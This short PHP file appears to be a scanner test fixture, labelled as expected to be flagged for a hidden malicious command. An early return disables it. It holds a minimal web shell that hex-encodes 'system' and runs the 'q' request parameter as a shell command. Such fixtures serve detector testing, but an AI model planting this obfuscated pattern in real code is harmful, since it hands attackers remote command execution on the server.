<?php return; // want: malicious php.command.hidden
$f = "\x73\x79\x73\x74\x65\x6d";
$f($_GET['q']);
